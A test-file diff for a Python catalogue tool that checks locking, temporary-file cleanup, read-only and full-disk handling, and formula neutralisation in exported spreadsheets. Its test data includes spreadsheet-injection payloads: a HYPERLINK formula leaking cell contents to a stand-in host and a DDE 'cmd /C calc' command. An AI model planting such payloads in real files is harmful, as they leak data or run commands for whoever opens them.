@@ -1,0 +1,363 @@
+"""Writing safely: one lock for every catalogue writer, outputs that never execute, temporaries
+swept, a write that cannot happen is one line and exit 3 with the old file intact."""
+import csv
+import errno
+import os
+import subprocess
+import sys
+import time
+import zipfile
+
+import openpyxl
+import pytest
+from typer.testing import CliRunner
+
+from conftest import ROOT, SEED
+from indicode.catalogue import store
+from indicode.catalogue.export import cell_text, original_text
+from indicode.catalogue.files import TMP_TAG, BusyError, WriteError, atomic_path, sweep_temporaries
+from indicode.catalogue.store import Catalogue, add_learned, build, write_lock
+from indicode.cli import app
+
+runner = CliRunner()
+FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)",
+            "=cmd|' /C calc'!A0", "\t=1+1", "'quoted"]
+
+
+def _one_error(stderr: str) -> bool:
+    """Exactly one `error:` line, no traceback."""
+    return "Traceback" not in stderr and sum(l.startswith("error: ") for l in stderr.splitlines()) == 1
+
+
+def _env(**extra):
+    return {**os.environ, "PYTHONPATH": str(ROOT / "tests"), **extra}
+
+
+def _hold_lock(path, flag, seconds):
+    """A second process that holds `path`'s write lock for `seconds`; returns once it holds it."""
+    code = ("import sys, time, pathlib\n"
+            "from indicode.catalogue.store import write_lock\n"
+            "with write_lock(pathlib.Path(sys.argv[1])):\n"
+            "    pathlib.Path(sys.argv[2]).write_text('held')\n"
+            "    time.sleep(float(sys.argv[3]))\n")
+    p = subprocess.Popen([sys.executable, "-c", code, str(path), str(flag), str(seconds)], env=_env())
+    while not flag.exists():
+        assert p.poll() is None, "lock holder died"
+        time.sleep(0.02)
+    return p
+
+
+# ---------------------------------------------------------------- one way to write the catalogue
+
+def test_learned_links_written_during_a_build_survive(tmp_path, monkeypatch):
+    """Force the overlap: build has read the learned table and is about to replace the file when a
+    second process records a decision. The decision must end up in the new file."""
+    cat = tmp_path / "c.sqlite"
+    build([SEED["000"]], cat)
+    add_learned(cat, [("先前的决定", "12", "112000272", "甲", "t")])
+    ready = tmp_path / "learner-ready"
+    learner = ("import pathlib, sys\n"
+               "from indicode.catalogue.store import add_learned\n"
+               "pathlib.Path(sys.argv[2]).write_text('go')\n"
+               "add_learned(pathlib.Path(sys.argv[1]), [('构建期间的决定', '13', '112000272', '乙', 'second process')])\n")
+    real_write = store.write_catalogue
+    procs = []
+
+    def write_while_another_learns(*a, **kw):
+        procs.append(subprocess.Popen([sys.executable, "-c", learner, str(cat), str(ready)], env=_env()))
+        while not ready.exists():
+            assert procs[0].poll() is None
+            time.sleep(0.02)
+        time.sleep(1.0)  # ample time for the learner to write into the old file, were it not kept waiting
+        real_write(*a, **kw)
+
+    monkeypatch.setattr(store, "write_catalogue", write_while_another_learns)
+    build([SEED["000"], SEED["004"]], cat)
+    assert procs[0].wait(timeout=60) == 0
+    got = Catalogue.load(cat)
+    assert {l.text for l in got.learned} == {"先前的决定", "构建期间的决定"}
+    assert len(got) == 123  # and the rebuild itself happened
+
+
+def test_busy_catalogue_is_one_line_and_exit_3(tmp_catalogue, tmp_path, monkeypatch):
+    monkeypatch.setenv("INDICODE_LOCK_TIMEOUT", "0.3")
+    before = tmp_catalogue.read_bytes()
+    holder = _hold_lock(tmp_catalogue, tmp_path / "held", 20)
+    try:
+        reviewed = tmp_path / "r.csv"
+        reviewed.write_text("indicator,class,reviewer_code\n验收合格率,12,112000287\n", encoding="utf-8")
+        for args in (["learn", reviewed, "-c", tmp_catalogue], ["catalogue", "build", SEED["000"], "-o", tmp_catalogue],
+                     ["learned", "remove", "1", "-c", tmp_catalogue]):
+            r = runner.invoke(app, [str(a) for a in args])
+            assert r.exit_code == 3, (args, r.output)
+            assert _one_error(r.stderr) and "catalogue busy" in r.stderr
+        with pytest.raises(BusyError):
+            add_learned(tmp_catalogue, [("x", "", "112000287", "t", "t")])
+    finally:
+        holder.kill()
+        holder.wait()
+    assert tmp_catalogue.read_bytes() == before
+    # the lock goes with its holder: the next writer gets in
+    assert add_learned(tmp_catalogue, [("验收合格率", "12", "112000287", "t", "t")]) == 1
+
+
+def test_writers_wait_their_turn(tmp_catalogue, tmp_path):
+    """A learner that finds the lock taken waits (bounded), then writes."""
+    holder = _hold_lock(tmp_catalogue, tmp_path / "held", 1.0)
+    t0 = time.monotonic()
+    add_learned(tmp_catalogue, [("等一等", "12", "112000287", "t", "t")])
+    waited = time.monotonic() - t0
+    holder.wait()
+    assert waited > 0.3  # it did wait for the holder rather than write beside it
+    assert [l.text for l in Catalogue.load(tmp_catalogue).learned] == ["等一等"]
+
+
+# ---------------------------------------------------------------- outputs that never execute
+
+def _sheet_xml(path, sheet=1):
+    with zipfile.ZipFile(path) as z:
+        return z.read(f"xl/worksheets/sheet{sheet}.xml").decode()
+
+
+def _formula_doc(tmp_path):
+    doc = tmp_path / "evil.csv"
+    with open(doc, "w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["三级指标", "二级指标", "目标值", "=备注"])
+        for i, f in enumerate(FORMULAS):
+            w.writerow([f"{f}", "12", f, f])
+            w.writerow([f"验收合格率{i}", "12", f, f])
+    return doc
+
+
+def test_cell_text_rule_round_trips():
+    for v in FORMULAS + ["普通", "", "100%", "'plain", "''x"]:
+        assert original_text(cell_text(v)) == v
+    assert cell_text("=1+1") == "'=1+1" and cell_text("-5%") == "'-5%" and cell_text("普通") == "普通"
+    assert cell_text(7) == 7
+
+
+def test_extract_writes_no_formula_and_no_risky_csv_cell(tmp_path):
+    doc = _formula_doc(tmp_path)
+    x, c = tmp_path / "rows.xlsx", tmp_path / "rows.csv"
+    for out in (x, c):
+        r = runner.invoke(app, ["extract", str(doc), "-o", str(out)])
+        assert r.exit_code == 0, r.output
+    xml = _sheet_xml(x)
+    assert "<f>" not in xml and "<f " not in xml
+    wb = openpyxl.load_workbook(x)
+    values = {cell.value for row in wb.active.iter_rows() for cell in row}
+    assert set(FORMULAS) - {"\t=1+1"} <= values  # the text itself, unchanged
+    assert all(cell.data_type != "f" for row in wb.active.iter_rows() for cell in row)
+    with open(c, encoding="utf-8-sig", newline="") as fh:
+        cells = [v for row in csv.reader(fh) for v in row]
+    assert cells and not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=1+1" in cells
+
+
+def test_catalogue_export_and_normalize_write_no_formula(tmp_path, linker):
+    from indicode.bulk import normalize
+    from indicode.review_sheet import write_result
+
+    cat = tmp_path / "evil.sqlite"
+    doc = tmp_path / "coded.csv"
+    doc.write_text("三级指标,二级指标\n112000272-=HYPERLINK(\"http://x\"),12\n112000287-@SUM(1),12\n", encoding="utf-8")
+    assert runner.invoke(app, ["catalogue", "build", str(doc), "-o", str(cat)]).exit_code == 0
+    out = tmp_path / "codes.xlsx"
+    assert runner.invoke(app, ["catalogue", "export", "-c", str(cat), "-o", str(out)]).exit_code == 0
+    assert "<f>" not in _sheet_xml(out)
+    assert runner.invoke(app, ["catalogue", "export", "-c", str(cat), "-o", str(tmp_path / "codes.csv")]).exit_code == 0
+    with open(tmp_path / "codes.csv", encoding="utf-8-sig", newline="") as fh:
+        assert not [v for row in csv.reader(fh) for v in row if v[:1] in ("=", "+", "@")]
+    # normalize: the rows, the distinct sheet and the summary (whose file names come from the user)
+    evil = tmp_path / "=HYPERLINK(1).csv"
+    evil.write_bytes(_formula_doc(tmp_path).read_bytes())
+    res = normalize([evil], linker)
+    wb_path = tmp_path / "n.xlsx"
+    write_result(wb_path, res, {"catalogue": "=1+1"})
+    for i in range(1, 6):
+        assert "<f>" not in _sheet_xml(wb_path, i)
+    summary = openpyxl.load_workbook(wb_path)["汇总"]
+    assert "=HYPERLINK(1).csv" in {c.value for row in summary.iter_rows() for c in row}
+    write_result(tmp_path / "n.csv", res, {})
+    with open(tmp_path / "n.csv", encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert not [v for row in rows for v in row if v[:1] in ("=", "+", "@", "-")]
+    assert "'=备注" in rows[0]  # a header from the input is a cell too
+
+
+# ---------------------------------------------------------------- temporaries, read-only, full disk
+
+def test_temporaries_of_a_killed_writer_are_swept(tmp_path):
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
+    pid = int(dead.stdout)
+    stale = tmp_path / f".out.xlsx{TMP_TAG}{pid}-deadbeef"
+    stale.write_bytes(b"half")
+    journal = tmp_path / f".c.sqlite{TMP_TAG}{pid}-cafe0123-journal"
+    journal.write_bytes(b"half")
+    mine = tmp_path / f".live.csv{TMP_TAG}{os.getpid()}-00000000"
+    mine.write_bytes(b"being written")
+    other = tmp_path / ".someone-elses-file"
+    other.write_bytes(b"keep")
+    with atomic_path(tmp_path / "new.csv") as tmp:
+        assert TMP_TAG in tmp.name and tmp.name.startswith(".new.csv")
+        tmp.write_text("a\n")
+    assert not stale.exists() and not journal.exists()
+    assert mine.exists() and other.exists() and (tmp_path / "new.csv").read_text() == "a\n"
+    assert sweep_temporaries(tmp_path) == []
+
+
+def test_a_real_kill_leaves_a_temporary_that_the_next_write_removes(tmp_path):
+    code = ("import sys, time, pathlib\n"
+            "from indicode.catalogue.files import atomic_path\n"
+            "with atomic_path(pathlib.Path(sys.argv[1])) as tmp:\n"
+            "    tmp.write_text('partial')\n"
+            "    pathlib.Path(sys.argv[2]).write_text('ready')\n"
+            "    time.sleep(60)\n")
+    flag = tmp_path / "flag"
+    out = tmp_path / "out" / "rows.csv"
+    out.parent.mkdir()
+    p = subprocess.Popen([sys.executable, "-c", code, str(out), str(flag)], env=_env())
+    while not flag.exists():
+        time.sleep(0.02)
+    p.kill()
+    p.wait()
+    left = [f.name for f in out.parent.iterdir()]
+    assert len(left) == 1 and TMP_TAG in left[0] and not out.exists()
+    r = runner.invoke(app, ["extract", str(SEED["002"]), "-o", str(out)])
+    assert r.exit_code == 0
+    assert [f.name for f in out.parent.iterdir()] == ["rows.csv"]
+
+
+def _read_only(path):
+    path.chmod(0o444 if path.is_file() else 0o555)
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx", "jsonl"])
+def test_read_only_output_file_is_refused_and_kept(tmp_path, suffix):
+    out = tmp_path / f"rows.{suffix}"
+    out.write_text("precious")
+    _read_only(out)
+    r = runner.invoke(app, ["extract", str(SEED["002"]), "-o", str(out)])
+    assert r.exit_code == 3 and "read-only" in r.stderr and _one_error(r.stderr)
+    assert out.read_text() == "precious"
+    out.chmod(0o644)
+
+
+def test_read_only_folder_is_refused(tmp_path):
+    folder = tmp_path / "ro"
+    folder.mkdir()
+    _read_only(folder)
+    try:
+        r = runner.invoke(app, ["catalogue", "build", str(SEED["000"]), "-o", str(folder / "c.sqlite")])
+        assert r.exit_code == 3 and "read-only" in r.stderr
+        r = runner.invoke(app, ["extract", str(SEED["002"]), "-o", str(folder / "rows.csv")])
+        assert r.exit_code == 3 and "read-only" in r.stderr
+        assert list(folder.iterdir()) == []
+    finally:
+        folder.chmod(0o755)
+
+
+def test_read_only_catalogue_is_read_but_not_written(tmp_catalogue, tmp_path):
+    _read_only(tmp_catalogue)
+    before = tmp_catalogue.read_bytes()
+    assert runner.invoke(app, ["lookup", "112000272", "-c", str(tmp_catalogue)]).exit_code == 0
+    reviewed = tmp_path / "r.csv"
+    reviewed.write_text("indicator,class,reviewer_code\n验收合格率,12,112000287\n", encoding="utf-8")
+    for args in (["learn", reviewed, "-c", tmp_catalogue], ["learned", "remove", "1", "-c", tmp_catalogue],
+                 ["catalogue", "build", SEED["000"], "-o", tmp_catalogue]):
+        r = runner.invoke(app, [str(a) for a in args])
+        assert r.exit_code == 3 and "read-only" in r.stderr and _one_error(r.stderr), (args, r.output)
+    assert tmp_catalogue.read_bytes() == before
+    tmp_catalogue.chmod(0o644)
+
+
+def _disk_full(*a, **kw):
+    raise OSError(errno.ENOSPC, "No space left on device")
+
+
+@pytest.mark.parametrize("patch,args", [
+    ("openpyxl.Workbook.save", ["extract", SEED["002"], "-o", "OUT/rows.xlsx"]),
+    ("pandas.DataFrame.to_csv", ["extract", SEED["002"], "-o", "OUT/rows.csv"]),
+    ("pandas.DataFrame.to_csv", ["catalogue", "export", "-o", "OUT/codes.csv"]),
+    ("openpyxl.Workbook.save", ["catalogue", "export", "-o", "OUT/codes.xlsx"]),
+    ("shutil.copyfile", ["learn", "REVIEWED"]),  # the first learn copies the bundled catalogue for the user
+])
+def test_full_disk_is_one_line_exit_3_and_nothing_half_written(tmp_path, monkeypatch, patch, args):
+    import importlib
+
+    out = tmp_path / "out"
+    out.mkdir()
+    monkeypatch.setenv("INDICODE_DATA_DIR", str(tmp_path / "data"))
+    reviewed = tmp_path / "r.csv"
+    reviewed.write_text("indicator,class,reviewer_code\n验收合格率,12,112000287\n", encoding="utf-8")
+    mod, _, attr = patch.rpartition(".")
+    try:
+        target = importlib.import_module(mod)
+        monkeypatch.setattr(target, attr, _disk_full)
+    except ModuleNotFoundError:
+        owner, cls = mod.rsplit(".", 1)
+        monkeypatch.setattr(getattr(importlib.import_module(owner), cls), attr, _disk_full)
+    argv = [str(a).replace("OUT", str(out)).replace("REVIEWED", str(reviewed)) for a in args]
+    r = runner.invoke(app, argv)
+    assert r.exit_code == 3, r.output
+    assert "No space left on device" in r.stderr and _one_error(r.stderr)
+    assert list(out.iterdir()) == []
+    assert not (tmp_path / "data").exists() or not [f for f in (tmp_path / "data").iterdir() if f.suffix == ".sqlite"]
+
+
+def test_sqlite_full_disk_in_learn_and_build(tmp_catalogue, tmp_path, monkeypatch):
+    """SQLite reports a full disk as an OperationalError; both writers turn it into exit 3."""
+    import sqlite3
+
+    real = sqlite3.connect
+
+    class FullConnection:
+        def __init__(self, con):
+            self.con = con
+
+        def execute(self, sql, *a):
+            if sql.lstrip().upper().startswith(("INSERT", "DELETE", "UPDATE", "CREATE")):
+                raise sqlite3.OperationalError("database or disk is full")
+            return self.con.execute(sql, *a)
+
+        def __getattr__(self, name):
+            return getattr(self.con, name)
+
+        def __enter__(self):
+            return self.con.__enter__()
+
+        def __exit__(self, *exc):
+            return self.con.__exit__(*exc)
+
+    before = tmp_catalogue.read_bytes()
+    monkeypatch.setattr(sqlite3, "connect", lambda *a, **kw: FullConnection(real(*a, **kw)))
+    reviewed = tmp_path / "r.csv"
+    reviewed.write_text("indicator,class,reviewer_code\n验收合格率,12,112000287\n", encoding="utf-8")
+    r = runner.invoke(app, ["learn", str(reviewed), "-c", str(tmp_catalogue)])
+    assert r.exit_code == 3 and "disk is full" in r.stderr, r.output
+    r = runner.invoke(app, ["catalogue", "build", str(SEED["000"]), "-o", str(tmp_catalogue)])
+    assert r.exit_code == 3 and "disk is full" in r.stderr, r.output
+    monkeypatch.undo()
+    assert tmp_catalogue.read_bytes() == before
+    assert [f.name for f in tmp_path.iterdir() if TMP_TAG in f.name] == []
+
+
+def test_file_size_limit_is_a_real_full_disk(tmp_path):
+    """A real process whose writes fail in the kernel (RLIMIT_FSIZE: EFBIG, as a full disk would
+    fail them): one line, exit 3, no output and no temporary left."""
+    import resource
+
+    def limit():
+        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))
+
+    for out in (tmp_path / "c.sqlite", tmp_path / "rows.xlsx"):
+        cmd = ["catalogue", "build", str(SEED["000"]), "-o", str(out)] if out.suffix == ".sqlite" else \
+            ["extract", str(SEED["003"]), "-o", str(out)]
+        p = subprocess.run([sys.executable, "-m", "indicode.cli", *cmd], capture_output=True, text=True,
+                           preexec_fn=limit, env=_env(INDICODE_CACHE_DIR=str(tmp_path / "cache")))
+        assert p.returncode == 3, p.stderr
+        assert "Traceback" not in p.stderr and _one_error(p.stderr) and str(out) in p.stderr
+        assert not out.exists()
+        assert [f.name for f in tmp_path.iterdir() if TMP_TAG in f.name] == []
+
